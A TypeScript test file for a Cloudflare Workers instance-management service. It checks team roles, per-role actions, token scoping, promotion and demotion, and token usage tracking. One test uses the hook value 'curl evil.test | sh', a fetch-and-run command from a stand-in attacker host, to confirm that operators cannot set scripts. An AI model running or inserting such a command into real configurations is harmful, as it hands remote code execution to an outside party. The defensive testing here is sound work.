/** A team: what each role may do and is offered, and tokens that are for less than their maker. */
import { env, exports } from "cloudflare:workers";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AnswerOf } from "../../core/protocol/api.ts";
import type { MemberView } from "../../core/protocol/team.ts";
import type { InstanceView } from "../../core/protocol/views.ts";
import {
  advance,
  api,
  newUser,
  outcome,
  runningInstance,
  type Sleeper,
  send,
  type TestUser,
  until,
} from "./helpers.ts";
import { endScene, setScene } from "./scene.ts";
import type { FakeVast } from "./vast.ts";

type Token = AnswerOf<"createToken">;
type Member = MemberView & { token: string };

let vast: FakeVast;
let ana: TestUser;
let nest: Sleeper;
beforeAll(async () => {
  ({ vast, user: ana } = await setScene());
  ({ nest } = await runningInstance(vast, ana));
});
afterAll(endScene);

async function join(role: string, name = role): Promise<Member> {
  const made = await api<Member>("POST", "/api/members", { token: ana.token, json: { name, role } });
  expect(made.status).toBe(201);
  return made.body;
}

async function makeToken(token: string, json: object): Promise<Token> {
  const made = await api<Token>("POST", "/api/tokens", { token, json: { name: "made", ...json } });
  expect(made.status, JSON.stringify(made.body)).toBe(201);
  return made.body;
}

const me = async (token: string) => (await api<AnswerOf<"me">>("GET", "/api/me", { token })).body;
const lastUsed = (id: string) =>
  env.DB.prepare("SELECT last_used_at AS at FROM api_tokens WHERE id = ?").bind(id).first<string | null>("at");

describe("members", () => {
  it("see the team's instances, with the actions of their role alone", async () => {
    const owners = (await nest.view()).actions;
    expect(owners).toContain("discard");
    const seen = async (token: string) => {
      const one = (await api<InstanceView>("GET", nest.path, { token })).body.actions;
      const list = await api<AnswerOf<"listInstances">>("GET", "/api/instances?live=true", { token });
      expect(list.body.instances.map(({ id }) => id)).toContain(nest.id);
      expect(list.body.instances.find(({ id }) => id === nest.id)?.glance?.actions).toEqual(one);
      return one;
    };
    expect(await seen((await join("owner")).token)).toEqual(owners);
    expect(await seen((await join("operator")).token)).toEqual(owners.filter((action) => action !== "discard"));
    expect(await seen((await join("viewer")).token)).toEqual([]);
  });

  it("are named where they asked for something", async () => {
    const rui = await join("operator", "Rui");
    const held = await api<InstanceView>("POST", `${nest.path}/keep-awake`, { token: rui.token, json: { minutes: 5 } });
    const by = `user:${rui.user_id}`;
    expect(held.body.leases).toMatchObject([{ by, by_name: "Rui" }]);
    const told = async () =>
      (await nest.events()).map(({ event_type, actor, actor_name }) => ({ event_type, actor, actor_name }));
    expect(await told()).toContainEqual({ event_type: "keep_awake", actor: by, actor_name: "Rui" });
    expect(await told()).toContainEqual({ event_type: "created", actor: `user:${ana.id}`, actor_name: "Ana" });
    expect(
      (await told()).filter(({ actor }) => !actor.startsWith("user:")).every((one) => one.actor_name === null),
    ).toBe(true);
    expect((await api("DELETE", `${nest.path}/keep-awake`, { token: ana.token })).status).toBe(200);
  });

  it("are told on a watched instance what they themselves may do", async () => {
    const open = async (token: string) => {
      const { webSocket } = await exports.default.fetch(
        new Request(`http://soneca.test${nest.path}/watch`, {
          headers: { authorization: `Bearer ${token}`, upgrade: "websocket" },
        }),
      );
      const told: string[][] = [];
      webSocket!.accept();
      webSocket!.addEventListener("message", ({ data }) => {
        told.push((JSON.parse(String(data)) as { instance: InstanceView }).instance.actions);
      });
      return { told, webSocket: webSocket! };
    };
    const [owner, viewer] = [await open(ana.token), await open((await join("viewer")).token)];
    await api("PUT", nest.path, { token: ana.token, json: { name: "told to all" } });
    await until("both are told twice", async () => owner.told.length > 1 && viewer.told.length > 1);
    expect(owner.told.at(-1)).toContain("discard");
    expect(viewer.told.at(-1)).toEqual([]);
    for (const { webSocket } of [owner, viewer]) webSocket.close();
  });

  it("act under their own name", async () => {
    const rui = await join("operator", "Rui");
    expect(await outcome("POST", `${nest.path}/keep-awake`, { token: rui.token, json: { minutes: 5 } })).toBe("200");
    expect((await nest.view()).leases.map(({ by }) => by)).toContain(`user:${rui.user_id}`);
  });

  it("who operate change times, and nothing that keeps snapshots, runs scripts or opens services", async () => {
    const { token } = await join("operator");
    const put = (json: object) => outcome("PUT", `${nest.path}/config`, { token, json });
    expect(await put({ auto_hibernation: { not_now_minutes: 20 } })).toBe("200");
    for (const auto_hibernation of [
      { retention: { keep_newest: 1 } },
      { hooks: { after_wake: "curl evil.test | sh" } },
      { proxy: { access: "public" } },
    ])
      expect(await put({ auto_hibernation }), JSON.stringify(auto_hibernation)).toBe("403 role_too_low");
    expect(await put({ unset: ["retention.keep_days"] })).toBe("403 role_too_low");
    expect((await nest.view()).auto_hibernation.proxy.access).toBe("key");
  });

  it("can do at once what their role is now, with whatever token", async () => {
    const rui = await join("operator");
    const more = await makeToken(rui.token, {});
    const wake = () => outcome("POST", `${nest.path}/not-now`, { token: more.token, json: {} });
    const path = `/api/members/${rui.user_id}`;
    expect(await wake()).toBe("200");
    expect(await outcome("PUT", path, { token: ana.token, json: { role: "viewer" } })).toBe("200");
    expect(await wake()).toBe("403 role_too_low");
    expect((await me(more.token)).team.role).toBe("viewer");
    expect(await outcome("DELETE", path, { token: ana.token })).toBe("204");
    for (const token of [rui.token, more.token])
      expect(await outcome("GET", "/api/me", { token })).toBe("401 unauthenticated");
  });

  it("can do more at once with their first token and a session of it when they are promoted, and before that no more", async () => {
    for (const role of ["viewer", "operator"] as const) {
      const rui = await join(role, "Rui");
      const headers = { origin: "http://dashboard.test", "sec-fetch-site": "same-origin" };
      const signedIn = await api("POST", "http://dashboard.test/api/session", { json: { token: rui.token }, headers });
      const cookie = signedIn.headers.get("set-cookie")?.split(";")[0] ?? "";
      const session = () => send("GET", "http://dashboard.test/api/me", { headers: { ...headers, cookie } });
      const discards = () => outcome("POST", `${nest.path}/discard`, { token: rui.token, json: {} });
      const make = (wanted: string) =>
        outcome("POST", "/api/tokens", { token: rui.token, json: { name: "more", role: wanted } });
      const list = async (token: string) => {
        const { body } = await api<AnswerOf<"listTokens">>("GET", "/api/tokens", { token });
        return body.tokens.filter((one) => one.user.id === rui.user_id && one.name === "first token");
      };
      const roles = async () => [
        (await me(rui.token)).team.role,
        ((await (await session()).json()) as AnswerOf<"me">).team.role,
        (await list(rui.token))[0]?.role,
        (await list(ana.token))[0]?.role,
      ];
      expect(await roles()).toEqual([role, role, role, role]);
      expect(await discards()).toBe("403 role_too_low");
      expect(await make("owner")).toBe("403 forbidden");
      expect((await makeToken(rui.token, {})).role).toBe(role);
      expect(await outcome("GET", "/api/audit", { token: rui.token })).toBe("403 role_too_low");

      const path = `/api/members/${rui.user_id}`;
      expect(await outcome("PUT", path, { token: ana.token, json: { role: "owner" } })).toBe("200");
      expect(await roles()).toEqual(["owner", "owner", "owner", "owner"]);
      expect(await outcome("GET", "/api/audit", { token: rui.token })).toBe("200");
      expect(await outcome("PUT", path, { token: ana.token, json: { role: "viewer" } })).toBe("200");
      expect(await roles()).toEqual(["viewer", "viewer", "viewer", "viewer"]);
    }
  });

  it("never lose the one that the team began with, and are no other team's", async () => {
    const path = `/api/members/${ana.id}`;
    const { token } = await join("owner");
    expect(await outcome("DELETE", path, { token })).toBe("409 founder_stays");
    expect(await outcome("PUT", path, { token, json: { role: "viewer" } })).toBe("409 founder_stays");
    const eve = await newUser("Eve");
    const rui = await join("viewer");
    expect(await outcome("DELETE", `/api/members/${rui.user_id}`, { token: eve.token })).toBe("404 object_not_found");
    expect(await outcome("GET", nest.path, { token: eve.token })).toBe("404 instance_not_found");
    const { body } = await api<AnswerOf<"listMembers">>("GET", "/api/members", { token: eve.token });
    expect(body.members.map((one) => one.user_id)).toEqual([eve.id]);
  });

  it("are asked in by e-mail only where Cloudflare Access can say who they are", async () => {
    const json = { name: "Bia", role: "viewer", email: "bia@example.com" };
    expect(await outcome("POST", "/api/members", { token: ana.token, json })).toBe("400 invalid_input");
  });

  it("who only look reach no service", async () => {
    const ask = async (token: string) => {
      const { status } = await api("GET", `/p/${nest.id}/`, { headers: { "x-soneca-key": token } });
      return status;
    };
    expect(await ask((await join("viewer")).token)).toBe(403);
    expect(await ask((await join("operator")).token)).not.toBe(403);
    const elsewhere = await makeToken(ana.token, { instances: [nest.id] });
    expect(await ask(elsewhere.token)).not.toBe(403);
    await env.DB.prepare("UPDATE api_tokens SET instances = ? WHERE id = ?")
      .bind('["i-aaaaaaaaaa"]', elsewhere.id)
      .run();
    advance(31_000);
    expect(await ask(elsewhere.token)).toBe(403);
  });
});

describe("a token", () => {
  it("is never for more than its maker: role, instances, end", async () => {
    const viewer = await join("viewer");
    const make = (token: string, json: object) =>
      outcome("POST", "/api/tokens", { token, json: { name: "x", ...json } });
    expect(await make(viewer.token, { role: "operator" })).toBe("403 forbidden");
    expect(await make(viewer.token, { user_id: ana.id })).toBe("403 forbidden");
    expect((await makeToken(viewer.token, {})).role).toBe("viewer");

    const other = (await runningInstance(vast, ana)).nest;
    const narrow = await makeToken(ana.token, { instances: [nest.id] });
    expect(await make(narrow.token, { instances: [other.id] })).toBe("404 instance_not_found");
    expect(await make(ana.token, { instances: ["i-aaaaaaaaaa"] })).toBe("404 instance_not_found");
    expect((await makeToken(narrow.token, {})).instances).toEqual([nest.id]);
    expect(await outcome("GET", other.path, { token: narrow.token })).toBe("404 instance_not_found");
    expect(await outcome("GET", `/api/offers?instance=${other.id}`, { token: narrow.token })).toBe(
      "404 instance_not_found",
    );
    expect(await outcome("POST", "/api/instances", { token: narrow.token, json: {} })).toBe("403 token_too_narrow");
    const list = await api<AnswerOf<"listInstances">>("GET", "/api/instances", { token: narrow.token });
    expect(list.body.instances.map(({ id }) => id)).toEqual([nest.id]);
    const money = await api<AnswerOf<"getSavings">>("GET", "/api/savings", { token: narrow.token });
    expect(money.body.instances.map(({ id }) => id)).toEqual([nest.id]);
    expect((await me(narrow.token)).may).not.toContain("createInstance");

    const short = await makeToken(ana.token, { expires_in_days: 2 });
    expect(await make(short.token, { expires_in_days: 3 })).toBe("400 invalid_input");
    expect((await makeToken(short.token, {})).expires_at).toBe(short.expires_at);
  });

  it("of less sees and ends no token of more", async () => {
    const less = await makeToken(ana.token, { role: "viewer" });
    const { body } = await api<AnswerOf<"listTokens">>("GET", "/api/tokens", { token: less.token });
    expect(body.tokens.every(({ role }) => role === "viewer")).toBe(true);
    const whole = await makeToken(ana.token, {});
    expect(await outcome("DELETE", `/api/tokens/${whole.id}`, { token: less.token })).toBe("404 object_not_found");
    expect(await outcome("DELETE", `/api/tokens/${less.id}`, { token: less.token })).toBe("204");
  });

  it("can be made and ended by an owner for a member", async () => {
    const rui = await join("operator", "Rui");
    const made = await makeToken(ana.token, { user_id: rui.user_id, role: "owner" });
    // The role of the member counts, whatever the token says.
    expect((await me(made.token)).team.role).toBe("operator");
    expect(made.user).toEqual({ id: rui.user_id, name: "Rui" });
    expect(await outcome("DELETE", `/api/tokens/${made.id}`, { token: ana.token })).toBe("204");
    expect(await outcome("GET", "/api/me", { token: made.token })).toBe("401 unauthenticated");
  });

  it("of before teams is its user's own, for everything", async () => {
    const old = await makeToken(ana.token, {});
    await env.DB.prepare("UPDATE api_tokens SET team_id = NULL, role = NULL WHERE id = ?").bind(old.id).run();
    expect((await me(old.token)).team).toMatchObject({ id: ana.id, role: "owner" });
    expect(await outcome("GET", nest.path, { token: old.token })).toBe("200");
  });

  it("notes its use once in ten minutes, however often it is used", async () => {
    const { id, token } = await makeToken(ana.token, {});
    expect(await lastUsed(id)).toBeNull();
    const use = () => Promise.all(Array.from({ length: 20 }, () => outcome("GET", "/api/me", { token })));
    await env.DB.batch([
      env.DB.prepare("CREATE TABLE test_uses (id TEXT)"),
      env.DB.prepare(
        "CREATE TRIGGER test_used AFTER UPDATE OF last_used_at ON api_tokens BEGIN INSERT INTO test_uses VALUES (new.id); END",
      ),
    ]);
    const writes = () => env.DB.prepare("SELECT COUNT(*) AS n FROM test_uses WHERE id = ?").bind(id).first<number>("n");
    await use();
    const first = await until("its use is noted", () => lastUsed(id));
    advance(9 * 60_000);
    await use();
    expect(await lastUsed(id)).toBe(first);
    expect(await writes()).toBe(1);
    advance(2 * 60_000);
    await use();
    await until("its later use is noted", async () => (await lastUsed(id)) !== first);
  });
});
